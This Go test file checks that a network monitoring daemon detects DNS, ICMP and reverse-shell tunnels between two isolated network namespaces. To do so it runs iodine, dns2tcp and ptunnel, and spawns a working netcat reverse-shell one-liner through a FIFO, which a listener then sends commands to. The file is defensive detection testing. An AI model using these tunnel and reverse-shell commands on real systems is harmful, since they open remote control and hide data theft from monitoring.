package weir_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestLiveTunnels digs real tunnels from one workload to another: each is an alert, and a ping before them is none.
func TestLiveTunnels(t *testing.T) {
	needs(t, "ip", "ping", "iodine", "iodined", "dns2tcpc", "dns2tcpd", "ptunnel", "nc")
	host, loads := bridged(t, 2)
	d := startDaemon(t, buildWeir(t), host, "")
	inner, outer := loads[0], loads[1]
	dir := t.TempDir()

	command(t, "ip", "netns", "exec", inner, "ping", "-c", "20", "-i", "0.05", "-s", "1000", "10.98.0.2")
	echo(t, outer, "127.0.0.1:7777")

	t.Run("iodine", func(t *testing.T) {
		spawn(t, outer, "iodined", "-f", "-c", "-P", "secret", "10.55.0.1", "t.example")
		spawn(t, inner, "iodine", "-f", "-r", "-P", "secret", "10.98.0.2", "t.example")
		d.waitFor(t, "tunnel.dns", "iodine", func() {
			exec.Command("ip", "netns", "exec", inner, "ping", "-c", "1", "-W", "1", "10.55.0.1").Run()
		})
	})
	t.Run("dns2tcp", func(t *testing.T) {
		conf := filepath.Join(dir, "dns2tcpd.conf")
		text := "listen = 10.98.0.2\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.example.org\nresources = echo:127.0.0.1:7777\n"
		if err := os.WriteFile(conf, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		spawn(t, outer, "dns2tcpd", "-F", "-f", conf)
		spawn(t, inner, "dns2tcpc", "-r", "echo", "-z", "d.example.org", "-l", "5555", "10.98.0.2")
		d.waitFor(t, "tunnel.dns", "dns2tcp", func() { talk(t, inner, "127.0.0.1:5555") })
	})
	t.Run("ptunnel", func(t *testing.T) {
		command(t, "ip", "netns", "exec", outer, "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
		spawn(t, outer, "ptunnel")
		spawn(t, inner, "ptunnel", "-p", "10.98.0.2", "-lp", "8000", "-da", "127.0.0.1", "-dp", "7777")
		d.waitFor(t, "tunnel.icmp", "ptunnel", func() { talk(t, inner, "127.0.0.1:8000") })
	})
	t.Run("reverse shell", func(t *testing.T) {
		fifo := filepath.Join(dir, "fifo")
		if err := syscall.Mkfifo(fifo, 0o600); err != nil {
			t.Fatal(err)
		}
		commanded := commander(t, outer, "10.98.0.2:4444")
		spawn(t, inner, "sh", "-c", fmt.Sprintf("sh -i <%s 2>&1 | nc 10.98.0.2 4444 >%[1]s", fifo))
		<-commanded
		d.waitFor(t, "tunnel.shell", "reverse", nil)
	})
	var rules []string
	for _, a := range alertsIn(t, d.stop()) {
		rules = append(rules, a.Weir.Rule)
	}
	slices.Sort(rules)
	if got, want := strings.Join(slices.Compact(rules), " "), "tunnel.dns tunnel.icmp tunnel.shell"; got != want {
		t.Errorf("got alerts of %s, want of %s", got, want)
	}
}

// spawn runs a program in a namespace until the test ends.
func spawn(t *testing.T, ns string, name string, args ...string) {
	t.Helper()
	cmd := exec.Command("ip", append([]string{"netns", "exec", ns, name}, args...)...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
		if t.Failed() {
			t.Logf("%s: %s", name, out.String())
		}
	})
}

type tunnelAlert struct {
	Type string `json:"event_type"`
	Weir struct {
		Rule, Engine, Why string
		Score             int
	}
}

func alertsIn(t *testing.T, log []byte) (out []tunnelAlert) {
	t.Helper()
	for line := range strings.Lines(string(log)) {
		var a tunnelAlert
		if json.Unmarshal([]byte(line), &a) == nil && a.Type == "alert" { // the last line may not be whole yet
			out = append(out, a)
		}
	}
	return out
}

// waitFor waits for an alert of a rule whose reasons have a word in them, doing something again and again.
func (d *daemonProcess) waitFor(t *testing.T, rule, word string, do func()) {
	t.Helper()
	var seen []tunnelAlert
	for begin := time.Now(); time.Since(begin) < 90*time.Second; time.Sleep(200 * time.Millisecond) {
		if do != nil {
			do()
		}
		log, err := os.ReadFile(d.dir + "/log/eve.json")
		if err != nil {
			t.Fatal(err)
		}
		seen = alertsIn(t, log)
		for _, a := range seen {
			if a.Weir.Rule == rule && strings.Contains(a.Weir.Why, word) && a.Weir.Engine == "threat" && a.Weir.Score >= 60 {
				return
			}
		}
	}
	t.Fatalf("no alert of %s (%s) within 90 s; there are: %+v", rule, word, seen)
}

// echo answers lines with themselves, in a namespace, until the test ends.
func echo(t *testing.T, ns, addr string) {
	inside(t, ns, func() error {
		l, err := net.Listen("tcp", addr)
		if err != nil {
			return err
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				go func() {
					defer c.Close()
					c.SetDeadline(time.Now().Add(time.Minute))
					for s := bufio.NewScanner(c); s.Scan(); {
						fmt.Fprintln(c, s.Text())
					}
				}()
			}
		}()
		return nil
	})
}

// talk sends some lines to an echo, if it is there yet.
func talk(t *testing.T, ns, addr string) {
	inside(t, ns, func() error {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			return nil
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(2 * time.Second))
		s := bufio.NewScanner(c)
		for i := range 10 {
			fmt.Fprintln(c, "line", i, strings.Repeat("abcdefgh", 20))
			if !s.Scan() {
				break
			}
		}
		return nil
	})
}

// commander waits for a shell and commands it. What it returns is closed when the shell has answered.
func commander(t *testing.T, ns, addr string) (done chan struct{}) {
	done = make(chan struct{})
	inside(t, ns, func() error {
		l, err := net.Listen("tcp", addr)
		if err != nil {
			return err
		}
		go func() {
			defer close(done)
			defer l.Close()
			l.(*net.TCPListener).SetDeadline(time.Now().Add(time.Minute))
			c, err := l.Accept()
			if err != nil {
				return
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(time.Minute))
			r := bufio.NewReader(c)
			for _, line := range []string{"id", "uname -a", "echo done"} {
				fmt.Fprintln(c, line)
				for s := ""; !strings.Contains(s, "\n"); {
					b, err := r.ReadByte()
					if err != nil {
						return
					}
					s += string(b)
				}
			}
		}()
		return nil
	})
	return done
}
